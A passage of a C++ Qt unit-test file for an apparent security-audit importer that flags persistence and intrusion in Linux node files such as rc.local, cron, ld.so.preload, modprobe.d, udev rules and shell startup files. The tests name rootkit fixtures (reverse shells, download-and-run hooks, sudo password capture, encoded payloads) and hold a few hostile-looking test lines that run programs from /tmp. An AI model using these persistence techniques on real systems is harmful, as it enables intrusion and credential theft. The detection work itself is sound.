    // A million lines, each a program from /tmp: every one judged, the first
    // 10,000 kept, a hundred findings and an issue counting the rest.
    QByteArray bytes = "#!/bin/sh\n";
    bytes.reserve(12 * 1000000);
    for (int i = 0; i < 1000000; ++i)
        bytes += "/tmp/j " + QByteArray::number(i % 10) + "\n";
    const MemoryImport m = runBytes(bytes, QStringLiteral("worker-1/etc/cron.hourly/many"));
    QVERIFY(keptBounded(m, QStringLiteral("node-script"), "suspicious", 10000, "suspiciousNotKept", 990000,
                        QStringLiteral("999900 more commands match node.script.runs-from-temp")));
    QCOMPARE(bodyOf(m).value(QStringLiteral("lines")).toInt(), 1000001);
    QCOMPARE(bodyOf(m).value(QStringLiteral("commands")).toInt(), 1000000);

    // 100,000 lines continued with '\', and a quote never closed: read up to the
    // bound, then afresh.
    QByteArray continued = "/usr/bin/app \\\n";
    for (int i = 0; i < 100000; ++i)
        continued += "  --label=team-" + QByteArray::number(i) + " \\\n";
    continued += "  --last\n/tmp/after\n";
    const MemoryImport c = runBytes(continued, QStringLiteral("worker-1/etc/rc.local"));
    QVERIFY(c.result.hasValue());
    QVERIFY(hasIssue(c.issues, QStringLiteral("node-script.too-long")));
    QVERIFY(findingLines(c).contains(QStringLiteral("node.script.runs-from-temp@100003")));
    QByteArray quoted = "echo 'never closed\n";
    for (int i = 0; i < 20000; ++i)
        quoted += "line " + QByteArray::number(i) + "\n";
    const MemoryImport q = runBytes(quoted, QStringLiteral("worker-1/etc/rc.local"));
    QVERIFY(q.result.hasValue());
    QVERIFY(hasIssue(q.issues, QStringLiteral("node-script.too-long")));

    // One line of 2 MB: cut by the line reader, the file still read.
    const QByteArray huge = "echo " + QByteArray(2 * 1024 * 1024, 'x') + "\n/tmp/y\n";
    const MemoryImport h = runBytes(huge, QStringLiteral("worker-1/etc/rc.local"));
    QVERIFY(h.result.hasValue());
    QVERIFY(hasIssue(h.issues, QStringLiteral("node-script.line-too-long")));
    QCOMPARE(findingLines(h), QStringList{QStringLiteral("node.script.runs-from-temp@2")});
    QVERIFY(h.out.resources.front().body.size() < 64 * 1024);
}

void TestNodeScriptImporter::badBytes()
{
    // NUL bytes and invalid UTF-8 in a script forced on the importer: read as
    // text, repaired, the rest judged.
    const QByteArray bytes = QByteArray("echo a\0b\n", 9) + "echo \xff\xfe\n/tmp/x\n";
    const MemoryImport m = runBytes(bytes, QStringLiteral("worker-1/etc/rc.local"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(findingLines(m), QStringList{QStringLiteral("node.script.runs-from-temp@3")});
    QVERIFY(hasIssue(m.issues, QStringLiteral("node-script.bad-encoding")));
    QVERIFY(QJsonDocument::fromJson(m.out.resources.front().body.toUtf8()).isObject());
    for (const Finding& f : m.out.findings)
        QVERIFY(isValidUtf8(f.detail.toStdString()));
}

void TestNodeScriptImporter::cancels()
{
    NodeScriptImporter importer;
    qint64 seen = 0;
    QVERIFY(cancelsPromptly(importer, "/tmp/x --run\n", 300000, &seen));
}

void TestNodeScriptImporter::nodeFromThePath()
{
    for (const char* path : {"worker-1/etc/rc.local",
                             "worker-1/etc/rc.d/rc.local",
                             "worker-1/etc/profile.d/x.sh",
                             "worker-1/etc/cron.daily/logrotate",
                             "worker-1/etc/update-motd.d/00-header",
                             "worker-1/home/alice/.bashrc",
                             "worker-1/root/.profile",
                             "worker-1/etc/zsh/zshrc",
                             "worker-1/etc/init.d/ssh",
                             "worker-1/etc/rc.d/init.d/network",
                             "worker-1/etc/ld.so.preload",
                             "worker-1/etc/environment",
                             "worker-1/etc/modprobe.d/x.conf",
                             "worker-1/lib/modprobe.d/aliases.conf",
                             "worker-1/usr/lib/modprobe.d/systemd.conf",
                             "worker-1/etc/modules-load.d/k8s.conf",
                             "worker-1/etc/modules",
                             "worker-1/etc/zsh/zshenv",
                             "worker-1/home/alice/.zshenv",
                             "worker-1/root/.zlogin",
                             "worker-1/etc/udev/rules.d/99-x.rules",
                             "worker-1/usr/lib/udev/rules.d/80-drivers.rules",
                             "worker-1/etc/xdg/autostart/x.desktop",
                             "worker-1/home/alice/.config/autostart/x.desktop",
                             "worker-1/etc/csh.cshrc",
                             "worker-1/etc/csh/login.d/lang",
                             "worker-1/root/.tcshrc",
                             "worker-1/home/alice/.login",
                             "worker-1/etc/fish/config.fish",
                             "worker-1/etc/fish/conf.d/x.fish",
                             "worker-1/home/alice/.config/fish/config.fish",
                             "worker-1/home/alice/.config/fish/functions/sudo.fish",
                             "worker-1/etc/security/pam_env.conf",
                             "worker-1/home/alice/.pam_environment",
                             "worker-1/etc/ld.so.conf",
                             "worker-1/etc/ld.so.conf.d/libc.conf",
                             "worker-1/etc/dhcp/dhclient-exit-hooks.d/timesyncd",
                             "worker-1/etc/NetworkManager/dispatcher.d/01-ifupdown",
                             "worker-1/etc/network/if-post-down.d/x",
                             "worker-1/etc/X11/Xsession.d/90x11-common_ssh-agent",
                             "worker-1/etc/environment.d/90-x.conf",
                             "worker-1/home/alice/.config/environment.d/10-x.conf"}) {
        const QString p = QStringLiteral("nodes.tar.gz/") + QLatin1String(path);
        QCOMPARE(LogLayout::recognize(p).node, QStringLiteral("worker-1"));
    }

    // Through an import of two nodes' tarball: each script found by where it
    // lies, under its node; other shell scripts, a copy in /etc/skel, a python
    // motd script, a placeholder and a package's backup are nobody's.
    QVector<QPair<QString, QByteArray>> members;
    QStringList expected;
    for (const auto& [tree, node] : {std::pair{QStringLiteral("ubuntu"), QStringLiteral("worker-1")},
                                     std::pair{QStringLiteral("intruded"), QStringLiteral("worker-2")}}) {
        for (const QString& f : treeFiles(tree)) {
            const QString onNode = f.section(QLatin1Char('/'), 1);
            members.push_back({node + QLatin1Char('/') + onNode, fixture(f)});
            expected << node + QLatin1Char('/') + onNode;
        }
    }
    const QByteArray skel = fixture(QStringLiteral("ubuntu/home/ubuntu/.bashrc"));
    members.push_back({QStringLiteral("worker-1/etc/skel/.bashrc"), skel});
    members.push_back({QStringLiteral("worker-1/usr/local/bin/backup.sh"), "#!/bin/bash\n/tmp/x\n"});
    members.push_back({QStringLiteral("worker-1/etc/update-motd.d/91-release-upgrade"),
                       "#!/usr/bin/python3\nimport os\nos.system('/tmp/x')\n"});
    members.push_back({QStringLiteral("worker-1/etc/cron.daily/.placeholder"), "# DO NOT EDIT OR REMOVE\n"});
    members.push_back({QStringLiteral("worker-1/etc/cron.daily/logrotate.dpkg-old"), "#!/bin/sh\n/tmp/x\n"});
    const ImportedResources imported = importTarball(members);
    QVERIFY2(imported.error.isEmpty(), qPrintable(imported.error));
    QCOMPARE(imported.resources, expected.size());
    expected.sort();
    QCOMPARE(imported.names(QStringLiteral("NodeScript")), expected);
    QCOMPARE(
        imported.bodies.value(QStringLiteral("worker-2/home/deploy/.bashrc")).value(QStringLiteral("owner")).toString(),
        QStringLiteral("deploy"));
    QCOMPARE(imported.findings, 7);
}

void TestNodeScriptImporter::sniff_data()
{
    QTest::addColumn<QByteArray>("head");
    QTest::addColumn<QString>("path");
    QTest::addColumn<QString>("kind"); // the importer the registry picks, "" for none
    const QString script = QStringLiteral("node-script");
    const QStringList files = treeFiles(QStringLiteral("ubuntu")) + treeFiles(QStringLiteral("intruded"));
    for (const QString& f : files) {
        const QString onNode = f.section(QLatin1Char('/'), 1);
        QTest::addRow("%s", qPrintable(f))
            << fixture(f) << QStringLiteral("worker-1.tar.gz/worker-1/") + onNode << script;
        // The same text anywhere else, or its name alone, is nobody's.
        QTest::addRow("%s, name alone", qPrintable(f))
            << fixture(f) << onNode.section(QLatin1Char('/'), -1) << QString();
        QTest::addRow("%s, elsewhere", qPrintable(f))
            << fixture(f) << QStringLiteral("worker-1/opt/app/") + onNode.section(QLatin1Char('/'), -1) << QString();
    }
    const QByteArray sh = "#!/bin/sh\necho hi\n";
    QTest::newRow("rc.d") << sh << "worker-1/etc/rc.d/rc.local" << script;
    QTest::newRow("root's .profile") << sh << "worker-1/root/.profile" << script;
    QTest::newRow("a user's .bash_logout") << sh << "home/alice/.bash_logout" << script;
    QTest::newRow("a user's .zshrc") << sh << "worker-1/home/alice/.zshrc" << script;
    QTest::newRow("cron.weekly") << sh << "worker-1/etc/cron.weekly/fstrim" << script;
    QTest::newRow("cron.monthly") << sh << "worker-1/etc/cron.monthly/x" << script;
    QTest::newRow("env bash") << QByteArray("#!/usr/bin/env bash\necho hi\n") << "etc/cron.daily/x" << script;
    QTest::newRow("no shebang") << QByteArray("echo hi\n") << "etc/update-motd.d/99-x" << script;
    QTest::newRow("a shell script elsewhere") << sh << "worker-1/usr/local/bin/backup.sh" << QString();
    QTest::newRow("etc/skel") << sh << "worker-1/etc/skel/.bashrc" << QString();
    QTest::newRow("python motd") << QByteArray("#!/usr/bin/python3\nprint('hi')\n")
                                 << "worker-1/etc/update-motd.d/91-release-upgrade" << QString();
    QTest::newRow("perl in cron.daily") << QByteArray("#!/usr/bin/perl -w\nprint 1;\n") << "etc/cron.daily/x"
                                        << QString();
    QTest::newRow("a placeholder") << QByteArray("# DO NOT EDIT OR REMOVE\n") << "worker-1/etc/cron.daily/.placeholder"
                                   << QString();
    QTest::newRow("a package's backup") << sh << "worker-1/etc/cron.daily/logrotate.dpkg-old" << QString();
    // csh's and fish's files are this importer's, read in their syntax; not
    // where their shells do not read them, nor of another language.
    const QByteArray csh = "setenv LANG C.UTF-8\nalias ll 'ls -l'\n";
    const QByteArray fish = "set -gx LANG C.UTF-8\nalias ll 'ls -l'\n";
    QTest::newRow("profile.d's csh") << csh << "worker-1/etc/profile.d/vte.csh" << script;
    QTest::newRow("profile.d's csh with sh's first line") << sh << "worker-1/etc/profile.d/vte.csh" << script;
    QTest::newRow("csh.cshrc") << csh << "worker-1/etc/csh.cshrc" << script;
    QTest::newRow("csh/login.d") << csh << "worker-1/etc/csh/login.d/lang" << script;
    QTest::newRow("root's .cshrc") << csh << "worker-1/root/.cshrc" << script;
    QTest::newRow("a user's .login") << csh << "worker-1/home/alice/.login" << script;
    QTest::newRow("a user's .logout") << csh << "worker-1/home/alice/.logout" << script;
    QTest::newRow("a .tcshrc with tcsh's first line")
        << QByteArray("#!/bin/tcsh\n" + csh) << "worker-1/home/alice/.tcshrc" << script;
    QTest::newRow("a .cshrc of python") << QByteArray("#!/usr/bin/python3\nprint(1)\n") << "worker-1/root/.cshrc"
                                        << QString();
    QTest::newRow("a .cshrc of fish") << QByteArray("#!/usr/bin/fish\n" + fish) << "worker-1/root/.cshrc" << QString();
    QTest::newRow("fish's conf.d") << fish << "worker-1/etc/fish/conf.d/x.fish" << script;
    QTest::newRow("a user's fish function") << fish << "worker-1/home/alice/.config/fish/functions/ll.fish" << script;
    QTest::newRow("a user's config.fish") << fish << "worker-1/home/alice/.config/fish/config.fish" << script;
    QTest::newRow("a config.fish of csh")
        << QByteArray("#!/bin/csh\n" + csh) << "worker-1/etc/fish/config.fish" << QString();
    QTest::newRow("fish's completions") << fish << "worker-1/home/alice/.config/fish/completions/x.fish" << QString();
    QTest::newRow("profile.d's fish") << fish << "worker-1/etc/profile.d/x.fish" << QString();
    QTest::newRow("conf.d's sh") << sh << "worker-1/etc/fish/conf.d/x.sh" << QString();
    QTest::newRow("a .cshrc elsewhere") << csh << "worker-1/opt/app/.cshrc" << QString();
    QTest::newRow("a fish script in cron.daily")
        << QByteArray("#!/usr/bin/fish\n" + fish) << "worker-1/etc/cron.daily/x" << script;
    QTest::newRow("a tcsh script in init.d")
        << QByteArray("#!/bin/tcsh -f\n" + csh) << "worker-1/etc/init.d/x" << script;
    QTest::newRow("pam_env.conf") << QByteArray("PATH DEFAULT=/usr/bin\n") << "worker-1/etc/security/pam_env.conf"
                                  << script;
    QTest::newRow("a user's .pam_environment")
        << QByteArray("LANG=C\n") << "worker-1/home/alice/.pam_environment" << script;
    QTest::newRow("a user's .pam_environment of pam_env.conf's syntax")
        << QByteArray("EDITOR DEFAULT=vim\n") << "worker-1/home/alice/.pam_environment" << script;
    QTest::newRow("a hidden file in a home") << sh << "worker-1/home/alice/.bash_history" << QString();
    QTest::newRow("binary at rc.local") << QByteArray("\x7f"
                                                      "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0",
                                                      16)
                                        << "worker-1/etc/rc.local" << QString();
    QTest::newRow("empty") << QByteArray() << "worker-1/etc/rc.local" << QString();
    // SysV init scripts, zsh's other files, and the files of their own formats.
    for (const QString& tree : {QStringLiteral("debian"), QStringLiteral("rootkit")}) {
        for (const QString& f : treeFiles(tree)) {
            const QString onNode = f.section(QLatin1Char('/'), 1);
            QTest::addRow("%s", qPrintable(f))
                << fixture(f) << QStringLiteral("worker-1.tar.gz/worker-1/") + onNode << script;
            QTest::addRow("%s, elsewhere", qPrintable(f))
                << fixture(f) << QStringLiteral("worker-1/opt/app/") + onNode.section(QLatin1Char('/'), -1)
                << QString();
        }
    }
    QTest::newRow("RHEL's init.d") << sh << "worker-1/etc/rc.d/init.d/network" << script;
    QTest::newRow("a user's .zlogout") << sh << "worker-1/home/alice/.zlogout" << script;
    QTest::newRow("usr/lib/modprobe.d") << QByteArray("options loop max_loop=8\n")
                                        << "worker-1/usr/lib/modprobe.d/x.conf" << script;
    QTest::newRow("usr/lib/modules-load.d")
        << QByteArray("fuse\n") << "worker-1/usr/lib/modules-load.d/fuse.conf" << script;
    QTest::newRow("init.d's README") << QByteArray("All scripts in this folder …\n") << "worker-1/etc/init.d/README"
                                     << QString();
    QTest::newRow("python in init.d") << QByteArray("#!/usr/bin/python3\nprint(1)\n") << "worker-1/etc/init.d/x"
                                      << QString();
    QTest::newRow("modprobe.d not .conf")
        << QByteArray("install x /tmp/y\n") << "worker-1/etc/modprobe.d/x.conf.bak" << QString();
    QTest::newRow("environment elsewhere")
        << QByteArray("PATH=/tmp\n") << "worker-1/etc/default/environment" << QString();
    QTest::newRow("udev rules not .rules")
        << QByteArray("RUN+=\"/tmp/x\"\n") << "worker-1/etc/udev/rules.d/x.rules~" << QString();
    QTest::newRow("a desktop entry of an application")
        << QByteArray("[Desktop Entry]\nExec=/tmp/x\n") << "worker-1/usr/share/applications/x.desktop" << QString();
    QTest::newRow("binary ld.so.preload") << QByteArray("\x7f"
                                                        "ELF\x02\x01\x01\0\0\0",
                                                        10)
                                          << "worker-1/etc/ld.so.preload" << QString();
    QTest::newRow("empty environment") << QByteArray() << "worker-1/etc/environment" << QString();
    QTest::newRow("ld.so.conf.d not .conf")
        << QByteArray("/tmp/lib\n") << "worker-1/etc/ld.so.conf.d/x.conf.bak" << QString();
    QTest::newRow("python in dispatcher.d") << QByteArray("#!/usr/bin/python3\nimport os\n")
                                            << "worker-1/etc/NetworkManager/dispatcher.d/90-x" << QString();
    QTest::newRow("a dhclient hook of one line")
        << QByteArray("RUN=\"no\"\n") << "worker-1/etc/dhcp/dhclient-enter-hooks.d/debug" << script;
    QTest::newRow("NetworkManager's pre-down.d")
        << sh << "worker-1/etc/NetworkManager/dispatcher.d/pre-down.d/x" << script;
    // A place of another node file stays that importer's.
    QTest::newRow("crontab") << fixture(QStringLiteral("../cron/crontab")) << "worker-1/etc/crontab"
                             << QStringLiteral("cron");
}

void TestNodeScriptImporter::sniff()
{
    QFETCH(QByteArray, head);
    QFETCH(QString, path);
    QFETCH(QString, kind);
    QCOMPARE(NodeScriptImporter().sniff(head.left(ImportSource::kHeadSize)), Confidence::No);
    QCOMPARE(chosenKind(head, path), kind);
}

void TestNodeScriptImporter::packagedHookFilesAreQuiet_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("runs");
    QTest::addColumn<QString>("runsAs");
    QTest::addColumn<QString>("list"); // the body's list of entries
    QTest::addColumn<int>("entries");
    const QString script = QStringLiteral("NodeScript");
    const QString modules = QStringLiteral("NodeModules");
    const QString root = QStringLiteral("root");
    const QString every = QStringLiteral("every user");
    struct Row
    {
        const char* path;
        QString kind;
        const char* runs;
        QString runsAs;
        const char* list;
        int entries;
    };
    const Row rows[] = {
        {"debian/etc/init.d/ssh", script, "boot", root, "suspicious", 0},
        {"debian/etc/init.d/cron", script, "boot", root, "suspicious", 0},
        {"debian/etc/zsh/zshenv", script, "every zsh", every, "suspicious", 0},
        {"debian/home/admin/.zshenv", script, "every zsh", QStringLiteral("admin"), "suspicious", 0},
        {"debian/etc/ld.so.preload", QStringLiteral("NodePreload"), "every program", every, "libraries", 0},
        {"debian/etc/environment", QStringLiteral("NodeEnvironment"), "every login session", every, "variables", 1},
        // 4 sound-slot aliases, snd, snd-rawmidi, snd-emu10k1.
        {"debian/etc/modprobe.d/alsa-base.conf", modules, "module load", root, "commands", 7},
        {"debian/etc/modprobe.d/blacklist.conf", modules, "module load", root, "commands", 0},
        // 14 modules disabled with /bin/false or /bin/true.
        {"debian/etc/modprobe.d/cis-hardening.conf", modules, "module load", root, "commands", 11},
        {"debian/lib/modprobe.d/aliases.conf", modules, "module load", root, "commands", 0},
        {"debian/etc/modules", modules, "boot", root, "modules", 0},
        {"debian/etc/modules-load.d/k8s.conf", modules, "boot", root, "modules", 2},
        // Amazon Linux's EBS names, udev's own module loading (builtins, not
        // commands), ifupdown's hotplug.
        {"debian/etc/udev/rules.d/70-ec2-nvme-devices.rules", QStringLiteral("NodeUdevRules"), "device event", root,
         "commands", 2},
        {"debian/lib/udev/rules.d/80-drivers.rules", QStringLiteral("NodeUdevRules"), "device event", root, "commands",
         0},
        {"debian/lib/udev/rules.d/80-ifupdown.rules", QStringLiteral("NodeUdevRules"), "device event", root, "commands",
         1},
        {"debian/etc/xdg/autostart/xdg-user-dirs.desktop", QStringLiteral("NodeAutostart"), "desktop login", every,
         "commands", 1},
        // csh's and tcsh's, fish's (its packaged config.fish only comments: no
        // resource), pam_env.conf (only comments).
        {"debian/etc/csh.cshrc", script, "every csh", every, "suspicious", 0},
        {"debian/etc/csh.login", script, "login shell", every, "suspicious", 0},
        {"debian/home/admin/.tcshrc", script, "every csh", QStringLiteral("admin"), "suspicious", 0},
        {"debian/etc/fish/config.fish", QString(), "", every, "", 0},
        {"debian/home/admin/.config/fish/config.fish", script, "every fish", QStringLiteral("admin"), "suspicious", 0},
        {"debian/home/admin/.config/fish/functions/ssh.fish", script, "fish function", QStringLiteral("admin"),
         "suspicious", 0},
        {"debian/etc/security/pam_env.conf", QStringLiteral("NodeEnvironment"), "every login session", every,
         "variables", 0},
        // The network's hooks: dhclient's (timesyncd's servers, the classless
        // routes, the debug hook turned off), NetworkManager's dispatcher
        // running ifupdown's folders, chrony's if-up.d script.
        {"debian/etc/dhcp/dhclient-exit-hooks.d/timesyncd", script, "network event (dhclient)", root, "suspicious", 0},
        {"debian/etc/dhcp/dhclient-exit-hooks.d/rfc3442-classless-routes", script, "network event (dhclient)", root,
         "suspicious", 0},
        {"debian/etc/dhcp/dhclient-enter-hooks.d/debug", script, "network event (dhclient)", root, "suspicious", 0},
        {"debian/etc/NetworkManager/dispatcher.d/01-ifupdown", script, "network event (NetworkManager)", root,
         "suspicious", 0},
        {"debian/etc/network/if-up.d/chrony", script, "network event (ifupdown)", root, "suspicious", 0},
        // X11's: a user's .xsessionrc sourced, ssh-agent started when asked for.
        {"debian/etc/X11/Xsession.d/40x11-common_xsessionrc", script, "graphical login (Xsession)", every, "suspicious",
         0},
        {"debian/etc/X11/Xsession.d/90x11-common_ssh-agent", script, "graphical login (Xsession)", every, "suspicious",
         0},
        // systemd's environment.d: snapd's PATH, a user's ($PATH and $HOME
        // expanded, no relative folder).
        {"debian/usr/lib/environment.d/990-snapd.conf", QStringLiteral("NodeEnvironment"), "user services (systemd)",
         every, "variables", 2},
        {"debian/home/admin/.config/environment.d/10-editor.conf", QStringLiteral("NodeEnvironment"),
         "user services (systemd)", QStringLiteral("admin"), "variables", 2},
        // The dynamic linker's folders: the include, libc's /usr/local/lib, the
        // multiarch folders, fakeroot's, CUDA's.
        {"debian/etc/ld.so.conf", QStringLiteral("NodeLibraryPath"), "every program", every, "folders", 1},
        {"debian/etc/ld.so.conf.d/libc.conf", QStringLiteral("NodeLibraryPath"), "every program", every, "folders", 1},
        {"debian/etc/ld.so.conf.d/x86_64-linux-gnu.conf", QStringLiteral("NodeLibraryPath"), "every program", every,
         "folders", 3},
        {"debian/etc/ld.so.conf.d/fakeroot-x86_64-linux-gnu.conf", QStringLiteral("NodeLibraryPath"), "every program",
         every, "folders", 1},
        {"debian/etc/ld.so.conf.d/cuda.conf", QStringLiteral("NodeLibraryPath"), "every program", every, "folders", 1},
    };
    QCOMPARE(treeFiles(QStringLiteral("debian")).size(), int(std::size(rows)));
    for (const Row& r : rows)
        QTest::newRow(r.path) << QString::fromLatin1(r.path) << r.kind << QString::fromLatin1(r.runs) << r.runsAs
                              << QString::fromLatin1(r.list) << r.entries;
}

void TestNodeScriptImporter::packagedHookFilesAreQuiet()
{
    // Debian's own init scripts, zshenv, modprobe.d files (the aliases, sound
    // modules loaded by modprobe, a hardening baseline disabling modules with
    // /bin/false), the PATH of /etc/environment and a preload list of comments
    // only: no finding, no issue, one resource each.
    QFETCH(QString, path);
    QFETCH(QString, kind);
    QFETCH(QString, runs);
    QFETCH(QString, runsAs);
    QFETCH(QString, list);
    QFETCH(int, entries);
    const MemoryImport m = runFixture(path);
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 0);
    QVERIFY2(m.out.findings.empty(), qPrintable(findingLines(m).join(QLatin1Char(' '))));
    if (kind.isEmpty()) {
        // Comments only: nothing to keep, and said so.
        QCOMPARE(issueCodes(m.issues), QStringList{QStringLiteral("node-script.empty")});
        QVERIFY(m.out.resources.empty());
        return;
    }
    QCOMPARE(issueCodes(m.issues), QStringList());
    QCOMPARE(m.out.resources.size(), size_t(1));
    const Resource& r = m.out.resources.front();
    QCOMPARE(r.kind, kind);
    QCOMPARE(r.namespace_, QStringLiteral("worker-1"));
    QCOMPARE(r.name, path.section(QLatin1Char('/'), 1));
    const QJsonObject body = bodyOf(m);
    QCOMPARE(body.value(QStringLiteral("path")).toString(), QLatin1Char('/') + path.section(QLatin1Char('/'), 1));
    QCOMPARE(body.value(QStringLiteral("runs")).toString(), runs);
    QCOMPARE(body.value(QStringLiteral("runsAs")).toString(), runsAs);
    QCOMPARE(body.value(QStringLiteral("lines")).toInt(), fixture(path).count('\n'));
    QCOMPARE(body.value(list).toArray().size(), entries);
}

void TestNodeScriptImporter::hookIntruders_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QStringList>("findings"); // "rule@line"
    QTest::newRow("a process hider in ld.so.preload")
        << "rootkit/etc/ld.so.preload"
        << "NodePreload"
        << QStringList{QStringLiteral("node.preload.library@1"), QStringLiteral("node.preload.library@2")};
    QTest::newRow("/etc/environment: PATH from /var/tmp, LD_PRELOAD")
        << "rootkit/etc/environment"
        << "NodeEnvironment"
        << QStringList{QStringLiteral("node.environment.ld-preload@2"), QStringLiteral("node.environment.path@1")};
    QTest::newRow("a reverse shell when usb-storage loads")
        << "rootkit/etc/modprobe.d/usb-storage.conf"
        << "NodeModules" << QStringList{QStringLiteral("node.module.install-command@2")};
    QTest::newRow("a rootkit's module loaded at boot")
        << "rootkit/etc/modules-load.d/netfilter.conf"
        << "NodeModules" << QStringList{QStringLiteral("node.module.load-path@3")};
    QTest::newRow("an init script downloading and running")
        << "rootkit/etc/init.d/network-helper"
        << "NodeScript" << QStringList{QStringLiteral("node.script.download-exec@13")};
    QTest::newRow("zshenv capturing sudo's password")
        << "rootkit/etc/zsh/zshenv"
        << "NodeScript" << QStringList{QStringLiteral("node.script.credential-alias@6")};
    QTest::newRow("a miner from a user's .zlogin")
        << "rootkit/home/dev/.zlogin"
        << "NodeScript" << QStringList{QStringLiteral("node.script.runs-from-temp@2")};
    QTest::newRow("a udev rule downloading on each new interface")
        << "rootkit/etc/udev/rules.d/75-net-helper.rules"
        << "NodeUdevRules" << QStringList{QStringLiteral("node.udev.run-command@2")};
    QTest::newRow("an autostart entry from a hidden folder")
        << "rootkit/home/dev/.config/autostart/gnome-keyring-helper.desktop"
        << "NodeAutostart" << QStringList{QStringLiteral("node.autostart.exec@4")};
    // csh's, tcsh's and fish's files, judged with the rules of sh's.
    QTest::newRow("csh.cshrc: a preload, sudo's password, precmd, history off")
        << "rootkit/etc/csh.cshrc"
        << "NodeScript"
        << QStringList{QStringLiteral("node.script.credential-alias@19"), QStringLiteral("node.script.history-off@21"),
                       QStringLiteral("node.script.history-off@22"), QStringLiteral("node.script.ld-preload@18"),
                       QStringLiteral("node.script.prompt-command@20")};
    QTest::newRow("a .tcshrc logging every command, ssh from a hidden folder")
        << "rootkit/home/dev/.tcshrc"
        << "NodeScript"
        << QStringList{QStringLiteral("node.script.credential-alias@6"), QStringLiteral("node.script.debug-trap@3")};
    QTest::newRow("fish's conf.d: a preload, a prompt hook, history off, a download, a payload")
        << "rootkit/etc/fish/conf.d/gnome-keyring.fish"
        << "NodeScript"
        << QStringList{QStringLiteral("node.script.download-exec@9"), QStringLiteral("node.script.encoded-payload@10"),
                       QStringLiteral("node.script.history-off@8"), QStringLiteral("node.script.ld-preload@3"),
                       QStringLiteral("node.script.prompt-command@6")};
    QTest::newRow("an autoloaded fish function capturing sudo's password")
        << "rootkit/home/dev/.config/fish/functions/sudo.fish"
        << "NodeScript" << QStringList{QStringLiteral("node.script.credential-alias@2")};
    // pam_env's own files.
    QTest::newRow("pam_env.conf: LD_PRELOAD, PATH from /dev/shm on a continued line")
        << "rootkit/etc/security/pam_env.conf"
        << "NodeEnvironment"
        << QStringList{QStringLiteral("node.environment.ld-preload@77"), QStringLiteral("node.environment.path@79")};
    QTest::newRow("a user's .pam_environment: libraries from a hidden folder")
        << "rootkit/home/dev/.pam_environment"
        << "NodeEnvironment" << QStringList{QStringLiteral("node.environment.library-path@2")};
    // The network's hooks, judged as the other scripts.
    QTest::newRow("a dhclient hook downloading at each lease")
        << "rootkit/etc/dhcp/dhclient-exit-hooks.d/ntp-servers"
        << "NodeScript" << QStringList{QStringLiteral("node.script.download-exec@7")};
    QTest::newRow("a NetworkManager dispatcher script opening a reverse shell")
        << "rootkit/etc/NetworkManager/dispatcher.d/99-wifi-powersave"
        << "NodeScript" << QStringList{QStringLiteral("node.script.reverse-shell@7")};
    QTest::newRow("an if-up.d script running a program from /dev/shm")
        << "rootkit/etc/network/if-up.d/mountnfs-helper"
        << "NodeScript" << QStringList{QStringLiteral("node.script.runs-from-temp@4")};
    // The dynamic linker's folders.
    QTest::newRow("ld.so.conf including files from /dev/shm")
        << "rootkit/etc/ld.so.conf"
        << "NodeLibraryPath" << QStringList{QStringLiteral("node.library-path.folder@2")};
    QTest::newRow("ld.so.conf.d: a hidden folder in /var/tmp, a relative one, one in a home")
        << "rootkit/etc/ld.so.conf.d/zz-local.conf"
        << "NodeLibraryPath"
        << QStringList{QStringLiteral("node.library-path.folder@3"), QStringLiteral("node.library-path.folder@4"),
                       QStringLiteral("node.library-path.folder@5")};
    QTest::newRow("an Xsession.d file running a base64 payload at each graphical login")
        << "rootkit/etc/X11/Xsession.d/55x11-common_dbus-env"
        << "NodeScript" << QStringList{QStringLiteral("node.script.encoded-payload@7")};
    QTest::newRow("environment.d: PATH from a hidden folder in /dev/shm")
        << "rootkit/etc/environment.d/90-path.conf"
        << "NodeEnvironment" << QStringList{QStringLiteral("node.environment.path@2")};
    QTest::newRow("a user's environment.d preloading from a hidden folder")
        << "rootkit/home/dev/.config/environment.d/50-gtk.conf"
        << "NodeEnvironment" << QStringList{QStringLiteral("node.environment.ld-preload@2")};
    QCOMPARE(treeFiles(QStringLiteral("rootkit")).size(), 23);
}

void TestNodeScriptImporter::hookIntruders()
{
    QFETCH(QString, path);
    QFETCH(QString, kind);
    QFETCH(QStringList, findings);
    const MemoryImport m = runFixture(path);
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 0);
    QCOMPARE(findingLines(m), findings);
    QCOMPARE(m.out.resources.size(), size_t(1));
    QCOMPARE(m.out.resources.front().kind, kind);
    for (const Finding& f : m.out.findings) {
        QCOMPARE(f.tool, QStringLiteral("auditbench"));
        QCOMPARE(f.resourceKind, kind);
        QCOMPARE(f.resourceNamespace, QStringLiteral("worker-1"));
        QCOMPARE(f.resourceName, path.section(QLatin1Char('/'), 1));
        QVERIFY(!f.controls.isEmpty());
        QVERIFY2(f.title.endsWith(QLatin1String(" on node worker-1")), qPrintable(f.title));
        QVERIFY(!f.detail.isEmpty());
    }
}

void TestNodeScriptImporter::hookFindingsSayWhat()
{
    const MemoryImport preload = runFixture(QStringLiteral("rootkit/etc/ld.so.preload"));
    QCOMPARE(preload.out.findings.size(), size_t(2));
    const Finding& hider = preload.out.findings[0];
    QCOMPARE(hider.severity, Severity::High);
    QCOMPARE(hider.title, QStringLiteral("/etc/ld.so.preload loads /usr/local/lib/libprocesshider.so into every "
                                         "program on node worker-1"));
    QVERIFY(hider.detail.endsWith(QLatin1String("Line 1 of /etc/ld.so.preload: /usr/local/lib/libprocesshider.so")));
    QCOMPARE(hider.controls, QStringLiteral("CC6.8,CC7.2"));
    const Finding& hidden = preload.out.findings[1];
    QCOMPARE(hidden.severity, Severity::High);
    QCOMPARE(hidden.title, QStringLiteral("/etc/ld.so.preload loads /dev/shm/.x11/libsys.so, kept in a temporary or "
                                          "hidden folder, into every program on node worker-1"));
    const QJsonArray libraries = bodyOf(preload).value(QStringLiteral("libraries")).toArray();
    QCOMPARE(libraries.size(), 2);
    QCOMPARE(libraries[1].toObject().value(QStringLiteral("library")).toString(),
             QStringLiteral("/dev/shm/.x11/libsys.so"));
    QVERIFY(libraries[1].toObject().value(QStringLiteral("temporaryOrHidden")).toBool());
    QVERIFY(!libraries[0].toObject().contains(QStringLiteral("temporaryOrHidden")));

    // /etc/environment: what each variable is, the credential fingerprinted.
